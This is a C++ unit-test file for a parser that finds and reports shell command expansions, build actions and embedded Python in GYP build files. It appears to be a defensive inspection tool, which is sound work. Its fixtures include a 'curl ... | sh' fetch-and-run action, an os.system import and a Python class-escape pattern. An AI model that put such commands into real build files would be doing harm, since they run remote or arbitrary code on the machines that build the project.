#include "inspect/gyp_file.h"

#include <gtest/gtest.h>

namespace cordon::inspect {
namespace {

std::vector<std::string> texts(const GypFile& file, GypCommandKind kind) {
  std::vector<std::string> out;
  for (const GypCommand& command : file.commands)
    if (command.kind == kind) out.push_back(command.text);
  return out;
}

GypFile parsed(std::string_view text) {
  const Result<GypFile> file = parse_gyp(text);
  EXPECT_TRUE(file.has_value());
  return file ? *file : GypFile();
}

using Texts = std::vector<std::string>;

TEST(GypFile, FindsExpansionsWhereverATextStands) {
  const GypFile file = parsed(R"gyp({
  'variables': {'a%': '<!(node -p "1")', "<!(echo key)": 1},
  'targets': [{
    'target_name': 'x',
    'sources': ['a.cc', '<!@(ls -1 src/*.cc)'],
    'conditions': [['"<!(uname)"=="Linux"', {'defines': ['>!(late)', '^!@(latest)']}]],
  }],
})gyp");
  EXPECT_EQ(texts(file, GypCommandKind::expansion),
            (Texts{"node -p \"1\"", "echo key", "ls -1 src/*.cc", "uname", "late", "latest"}));
  EXPECT_EQ(file.commands[2].line, 5u);
  EXPECT_EQ(file.sources, 2u);
  EXPECT_TRUE(file.problems.empty());
}

TEST(GypFile, ReadsTheWholeCommandThroughItsBrackets) {
  const GypFile file = parsed(R"gyp({'a': "pre <!(node -e \"f(g(1))\" <(dir)) post", 'b': '<!(not closed (x)'})gyp");
  EXPECT_EQ(texts(file, GypCommandKind::expansion), (Texts{"node -e \"f(g(1))\" <(dir)", "not closed (x)"}));
}

TEST(GypFile, VariablesAndPlainTextRunNothing) {
  EXPECT_TRUE(
      parsed(R"gyp({'a': '<(module_root_dir)/x', 'b': '<@(list)', 'c': '<|(file a)', 'd': 'a <! b', 'e': '<!'})gyp")
          .commands.empty());
}

TEST(GypFile, AModuleOfPythonIsACommand) {
  EXPECT_EQ(texts(parsed("{'a': '<!pymod_do_main(evil 1)'}"), GypCommandKind::expansion),
            Texts{"pymod_do_main evil 1"});
}

TEST(GypFile, ActionsAreCommandsWithTheirWords) {
  const GypFile file = parsed(R"gyp({'targets': [{'actions': [{
      'action_name': 'x', 'inputs': ['in.js'], 'outputs': [],
      'action': ['node', 'install.js', ('--a'
        'b')],
  }], 'rules': [{'action+': ['sh', 'x.sh']}], 'copies': [{'files': ['a']}]}]})gyp");
  EXPECT_EQ(texts(file, GypCommandKind::action), (Texts{"node install.js --ab", "sh x.sh"}));
}

TEST(GypFile, AWordOfAnActionStaysOneWord) {
  const GypFile file = parsed(R"gyp({'actions': [
      {'action': ['sh', '-c', 'curl https://f.invalid/x | sh']},
      {'action': ['node', '-e', "f('a b').then(r => r)"]},
      {'action': ['node', '<(module_root_dir)/x.js', '<@(_inputs)', '$(BUILDTYPE)', '-I', 'a/b', 'C:\\x.js']}]})gyp");
  EXPECT_EQ(texts(file, GypCommandKind::action),
            (Texts{"sh -c 'curl https://f.invalid/x | sh'", "node -e 'f('\\''a b'\\'').then(r => r)'",
                   "node <(module_root_dir)/x.js <@(_inputs) $(BUILDTYPE) -I a/b C:\\x.js"}));
}

TEST(GypFile, EscapesDoNotHideACommand) {
  const GypFile file = parsed(
      "{'a': '\\x3c!(one)', 'b': '\\74\\u0021(two)', 'c': r'<!(\\three)', 'd': '<' '!(four)', 'e': '''<!(fi\nve)'''}");
  EXPECT_EQ(texts(file, GypCommandKind::expansion), (Texts{"one", "two", "\\three", "four", "fi\nve"}));
}

TEST(GypFile, WhatIsNoLiteralIsToldOnceALine) {
  const GypFile file =
      parsed("{\n  'a': __import__('os').system('x'),\n  'b': True, 'c': -1, 'd': 1.5,\n  'e': 'x' + 'y',\n}");
  EXPECT_EQ(texts(file, GypCommandKind::python), (Texts{"'a': __import__('os').system('x'),", "'e': 'x' + 'y',"}));
  EXPECT_EQ(file.commands.front().line, 2u);
}

TEST(GypFile, AConditionThatReachesForEverythingIsCode) {
  const GypFile file =
      parsed(R"gyp({'conditions': [["().__class__.__bases__", {}], ['OS=="win"', {'a': 'b__c'}]]})gyp");
  EXPECT_EQ(texts(file, GypCommandKind::python), Texts{"().__class__.__bases__"});
}

TEST(GypFile, NamesTheFilesThatItIncludes) {
  const GypFile file = parsed(R"gyp({'includes': ['common.gypi', 'deps/x.gypi'],
    'targets': [{'dependencies': ['deps/sqlite3.gyp:sqlite3', 'other', '<!(node -p "a.gyp:b")']}]})gyp");
  ASSERT_EQ(file.includes.size(), 3u);
  EXPECT_EQ(file.includes[0].path, "common.gypi");
  EXPECT_EQ(file.includes[2].path, "deps/sqlite3.gyp");
  EXPECT_EQ(file.includes[2].line, 2u);
}

TEST(GypFile, CommentsAndCommasAtTheEndAreNothing) {
  const GypFile file = parsed("# '<!(no)'\n{ # x\n 'a': [ 'b', ], # '<!(no)'\n}\n");
  EXPECT_TRUE(file.commands.empty());
  EXPECT_TRUE(file.problems.empty());
}

TEST(GypFile, WhatPythonWouldRefuseIsAProblemAndTheRestIsRead) {
  const GypFile cut = parsed("{'a': '<!(one)', 'b': [");
  EXPECT_EQ(texts(cut, GypCommandKind::expansion), Texts{"one"});
  ASSERT_EQ(cut.problems.size(), 1u);
  EXPECT_EQ(cut.problems[0].code, ErrorCode::truncated);
  EXPECT_EQ(parsed("{'a': ]}").problems.at(0).code, ErrorCode::syntax);
  EXPECT_EQ(parsed("{'a").problems.at(0).code, ErrorCode::truncated);
}

TEST(GypFile, LimitsBoundBytesDepthAndCommands) {
  Limits limits;
  limits.bytes = 10;
  EXPECT_EQ(parse_gyp("{'a': 'bcdefg'}", limits).error().code, ErrorCode::too_large);
  EXPECT_EQ(parse_gyp(std::string(1'000, '[')).error().code, ErrorCode::too_deep);
  limits = {};
  limits.entries = 1;
  EXPECT_EQ(parse_gyp("['<!(a)', '<!(b)']", limits).error().code, ErrorCode::too_many);
}

}  // namespace
}  // namespace cordon::inspect
